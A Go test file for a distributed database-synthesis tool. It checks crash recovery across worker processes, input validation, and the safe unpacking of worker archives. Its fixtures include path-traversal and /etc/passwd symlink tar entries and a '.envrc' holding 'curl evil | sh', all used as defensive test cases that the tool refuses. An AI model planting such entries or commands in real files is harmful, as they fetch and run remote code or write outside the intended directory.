package fleet_test

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"github.com/ncruces/go-sqlite3"

	"github.com/wasmenv/wasmenv/fleet"
	"github.com/wasmenv/wasmenv/synth"
)

// corpusSource loads synth/testdata/corpus/<name>.sql (a public database,
// see its SOURCE.md) into a SQLite file and reads it as a synthesis source.
func corpusSource(t testing.TB, name string) *fleet.SynthSource {
	t.Helper()
	script, err := os.ReadFile(filepath.Join("..", "synth", "testdata", "corpus", name+".sql"))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), name+".sqlite")
	conn, err := sqlite3.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := conn.Exec(string(script)); err != nil {
		t.Fatal(err)
	}
	conn.Close()
	src, err := fleet.ReadSynthSource(path)
	if err != nil {
		t.Fatal(err)
	}
	return src
}

// tree reads every file under dir by relative path. The wall-clock
// "seconds" of synth-summary.json, the one thing that differs between two
// runs of the same synthesis, is blanked.
func tree(t testing.TB, dir string) map[string]string {
	t.Helper()
	seconds := regexp.MustCompile(`"seconds": [0-9.e+-]+`)
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		rel, _ := filepath.Rel(dir, p)
		if filepath.Base(p) == "synth-summary.json" {
			b = seconds.ReplaceAll(b, []byte(`"seconds": 0`))
		}
		out[filepath.ToSlash(rel)] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sameTree(t testing.TB, what string, got, want map[string]string) {
	t.Helper()
	if len(want) == 0 {
		t.Fatalf("%s: the reference wrote nothing", what)
	}
	for p, w := range want {
		if g, ok := got[p]; !ok || g != w {
			t.Fatalf("%s: %s differs from the local run's (present: %v)", what, p, ok)
		}
	}
	for p := range got {
		if _, ok := want[p]; !ok {
			t.Fatalf("%s: %s is not in the local run", what, p)
		}
	}
}

// A batch of corpus databases synthesized on `wasmenv worker` processes,
// one of them SIGKILLed mid-synthesis, writes the environments `synth
// from-db` writes, file for file; so does the same batch run in this
// process.
func TestSynthOnFleetIsTheLocalRun(t *testing.T) {
	sources := []*fleet.SynthSource{corpusSource(t, "hr"), corpusSource(t, "sh_times")}
	base := fleet.SynthSpec{Tasks: 12, Seed: 3}
	refs, specs, err := fleet.PlanSynth(sources, base)
	if err != nil {
		t.Fatal(err)
	}
	// The reference: synth.FromDB on each file, as `wasmenv synth from-db` runs it.
	ref := t.TempDir()
	for _, src := range sources {
		path := filepath.Join(t.TempDir(), src.File)
		os.WriteFile(path, src.Data, 0o644)
		name := strings.TrimSuffix(src.File, ".sqlite")
		name = strings.ReplaceAll(name, "_", "-")
		if _, err := synth.FromDB(context.Background(), path, synth.Options{Out: filepath.Join(ref, name), Tasks: base.Tasks, Seed: base.Seed}); err != nil {
			t.Fatal(err)
		}
	}
	want := tree(t, ref)

	local := t.TempDir()
	if err := fleet.RunSynthLocal(context.Background(), sources, specs, refs, 2, synthOutput(t, local, refs), nil); err != nil {
		t.Fatal(err)
	}
	sameTree(t, "in this process", tree(t, local), want)

	// On the fleet: a worker process is SIGKILLed while it synthesizes;
	// its job is redelivered to the two that join.
	url := startServer(t)
	victim := startWorkerProcess(t, url, fastOpts)
	onFleet := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	done := make(chan error, 1)
	go func() {
		done <- (&fleet.Driver{NC: connect(t, url), Log: t.Logf}).RunSynth(ctx, sources, specs, refs, synthOutput(t, onFleet, refs))
	}()
	js, _ := jetstream.New(connect(t, url))
	for {
		c, err := js.Consumer(ctx, fleet.StreamJobs, fleet.ConsumerWorkers)
		if err == nil {
			if info, err := c.Info(ctx); err == nil && info.NumAckPending > 0 {
				break // the victim holds a job
			}
		}
		select {
		case err := <-done:
			t.Fatalf("the run ended before the victim took a job: %v", err)
		case <-time.After(5 * time.Millisecond):
		}
	}
	victim.cmd.Process.Signal(syscall.SIGKILL)
	victim.cmd.Wait()
	w1, w2 := startWorkerProcess(t, url, fastOpts), startWorkerProcess(t, url, fastOpts)
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if logs := w1.log.String() + w2.log.String(); !strings.Contains(logs, ", delivery 2)") {
		t.Fatalf("no job was redelivered after the kill:\n%s", logs)
	}
	sameTree(t, "on the fleet, a worker killed", tree(t, onFleet), want)
}

// Two databases that would write one environment, a file that is not a
// database, and settings out of range are refused before any job runs.
func TestPlanSynthRefuses(t *testing.T) {
	db := []byte("SQLite format 3\x00rest")
	for what, c := range map[string]struct {
		sources []*fleet.SynthSource
		base    fleet.SynthSpec
	}{
		"same env": {[]*fleet.SynthSource{{File: "a_b.sqlite", Data: db}, {File: "a-b.db", Data: db}}, fleet.SynthSpec{Tasks: 1}},
		"one name": {[]*fleet.SynthSource{{File: "a.sqlite", Data: db}, {File: "b.db", Data: db}}, fleet.SynthSpec{Tasks: 1, Name: "x"}},
		"tasks":    {[]*fleet.SynthSource{{File: "a.sqlite", Data: db}}, fleet.SynthSpec{Tasks: 0}},
		"share":    {[]*fleet.SynthSource{{File: "a.sqlite", Data: db}}, fleet.SynthSpec{Tasks: 1, WriteShare: new(float64(2))}},
		"none":     {nil, fleet.SynthSpec{Tasks: 1}},
	} {
		if _, _, err := fleet.PlanSynth(c.sources, c.base); !errors.Is(err, &fleet.Error{Code: fleet.CodeBadInput}) {
			t.Errorf("%s: %v, want a bad_input error", what, err)
		}
	}
	path := filepath.Join(t.TempDir(), "x.sqlite")
	os.WriteFile(path, []byte("CREATE TABLE t(x);"), 0o644)
	if _, err := fleet.ReadSynthSource(path); err == nil || !strings.Contains(err.Error(), "not a SQLite database") {
		t.Fatalf("a SQL script: %v", err)
	}
}

// An environment's archive comes from a worker: entries that leave its one
// directory, links and a second directory are refused, and nothing is
// left behind.
func TestSynthOutputRefusesHostileArchives(t *testing.T) {
	type entry struct {
		name string
		typ  byte
		link string
	}
	for what, entries := range map[string][]entry{
		"parent":   {{"env/", tar.TypeDir, ""}, {"env/../../x", tar.TypeReg, ""}},
		"absolute": {{"/etc/x", tar.TypeReg, ""}},
		"symlink":  {{"env/", tar.TypeDir, ""}, {"env/l", tar.TypeSymlink, "/etc/passwd"}},
		"two dirs": {{"env/a", tar.TypeReg, ""}, {"other/b", tar.TypeReg, ""}},
		"dot":      {{"./env/a", tar.TypeReg, ""}},
		"upper":    {{"Env/a", tar.TypeReg, ""}},
		"empty":    {},
	} {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		for _, e := range entries {
			tw.WriteHeader(&tar.Header{Name: e.name, Typeflag: e.typ, Linkname: e.link, Mode: 0o644})
		}
		tw.Close()
		dir := t.TempDir()
		out := synthOutput(t, dir, []fleet.GroupRef{{Index: 0, Env: "env"}})
		if err := out.WriteGroup(buf.Bytes()); !errors.Is(err, &fleet.Error{Code: fleet.CodeLost}) {
			t.Errorf("%s: %v, want a result_lost error", what, err)
		}
		if left, _ := os.ReadDir(dir); len(left) != 0 {
			t.Errorf("%s: left %v", what, left)
		}
	}
}

func synthOutput(t testing.TB, dir string, refs []fleet.GroupRef) fleet.Output {
	t.Helper()
	out, err := fleet.CreateSynthOutput(dir, refs)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// Issue 37, finding 4: an environment's archive unpacks only under its own
// job's name, and never replaces a directory this run did not write: an
// archive for "hr" that holds "payroll" (an unrelated environment in the
// output, with its files and a .envrc) is refused and payroll is intact;
// an output that already has hr is refused before any job runs, and an hr
// that appears while the run goes is not replaced.
func TestSynthOutputWritesOnlyItsOwnNewDirectory(t *testing.T) {
	archive := func(top string) []byte {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		tw.WriteHeader(&tar.Header{Name: top + "/", Typeflag: tar.TypeDir, Mode: 0o755})
		for name, body := range map[string]string{".envrc": "curl evil | sh", "env.yaml": "name: " + top, "tools/new.go": "package tools"} {
			tw.WriteHeader(&tar.Header{Name: top + "/" + name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))})
			tw.Write([]byte(body))
		}
		tw.Close()
		return buf.Bytes()
	}
	refs := []fleet.GroupRef{{Index: 0, Env: "hr"}}
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "payroll"), 0o755)
	os.WriteFile(filepath.Join(dir, "payroll", "env.yaml"), []byte("name: payroll"), 0o644)
	out := synthOutput(t, dir, refs)
	if err := out.WriteGroup(archive("payroll")); !errors.Is(err, &fleet.Error{Code: fleet.CodeLost}) {
		t.Fatalf("an archive of another environment: %v, want result_lost", err)
	}
	if left, _ := os.ReadDir(filepath.Join(dir, "payroll")); len(left) != 1 {
		t.Fatalf("payroll was touched: %v", left)
	}
	if _, err := fleet.CreateSynthOutput(dir, []fleet.GroupRef{{Index: 0, Env: "payroll"}}); !errors.Is(err, &fleet.Error{Code: fleet.CodeBadInput}) {
		t.Fatalf("an output that has the environment: %v, want bad_input", err)
	}
	os.MkdirAll(filepath.Join(dir, "hr"), 0o755) // appears while the run goes
	os.WriteFile(filepath.Join(dir, "hr", "mine.txt"), []byte("mine"), 0o644)
	if err := out.WriteGroup(archive("hr")); !errors.Is(err, &fleet.Error{Code: fleet.CodeLost}) {
		t.Fatalf("over a directory the run did not write: %v, want result_lost", err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "hr", "mine.txt")); string(b) != "mine" {
		t.Fatal("hr was replaced")
	}
	os.RemoveAll(filepath.Join(dir, "hr"))
	if err := out.WriteGroup(archive("hr")); err != nil {
		t.Fatal(err)
	}
}
